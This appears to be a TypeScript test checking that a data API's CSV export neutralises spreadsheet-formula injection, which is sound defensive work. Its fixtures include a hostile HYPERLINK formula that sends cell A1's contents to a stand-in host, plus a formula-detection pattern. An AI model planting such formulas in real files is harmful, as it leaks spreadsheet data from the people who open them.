/**
 * CSV injection end to end: an article whose id, outlet and title start spreadsheet formulas is
 * posted through the API into a real SQLite store, then exported as CSV by GET /api/v1/export.
 * No cell of any column may start with = + - @ tab or CR unless it is a number in a numeric
 * column; the document id comes back as `'@SUM(1+1)` (src/export/rfc4180.ts).
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { ARTICLES, TOKEN, buildApi, type ApiFixture } from './api-fixture.ts';
import { parseCsv } from '../export/parse-csv.ts';

const FORMULA_START = /^[=+\-@\t\r]/;
const NUMERIC = new Set(['year', 'time_precision', 'latitude', 'longitude', 'geo_precision', 'fatalities', 'timestamp', 'killed_min', 'killed_max', 'civilians_killed', 'children_killed', 'women_killed', 'injured']);

const HOSTILE_ID = '@SUM(1+1)';
const HOSTILE_OUTLET = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';

let fx: ApiFixture;
let rows: Record<string, string>[] = [];
let raw = '';

before(async () => {
  fx = await buildApi([]);
  const source = ARTICLES.find((a) => a.id === 'api-03-azaz-bomb')!;
  const posted = await fx.app.request('/api/v1/documents', {
    method: 'POST',
    headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ ...source, id: HOSTILE_ID, outlet: HOSTILE_OUTLET, title: '-2+3' }),
  });
  assert.equal(posted.status, 200, await posted.text());
  const res = await fx.app.request('/api/v1/export?format=csv');
  assert.equal(res.status, 200);
  raw = await res.text();
  const [header, ...records] = parseCsv(raw);
  rows = records.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
});
after(async () => {
  await fx.store.close();
});

describe('CSV export neutralises formulas', () => {
  test('the posted article gave an incident that lists it', () => {
    assert.ok(rows.length > 0, 'an incident was exported');
    assert.ok(rows.some((r) => r.documents.includes(HOSTILE_ID)), raw);
  });

  test(`the document id ${HOSTILE_ID} is written as text, quoted, with a leading single quote`, () => {
    const row = rows.find((r) => r.documents.includes(HOSTILE_ID))!;
    assert.equal(row.documents, `'${HOSTILE_ID}`);
    assert.ok(raw.includes(`"'${HOSTILE_ID}"`), 'inside a quoted field');
  });

  test('no cell of any column starts a formula, except numbers in numeric columns', () => {
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (!FORMULA_START.test(cell)) continue;
        assert.ok(NUMERIC.has(column) && Number.isFinite(Number(cell)), `${column}: ${JSON.stringify(cell)} would run as a formula`);
      }
    }
  });

  test('the outlet is still there, whole, after its source text', () => {
    const row = rows.find((r) => r.documents.includes(HOSTILE_ID))!;
    assert.ok(row.source.includes(HOSTILE_OUTLET), row.source);
  });
});
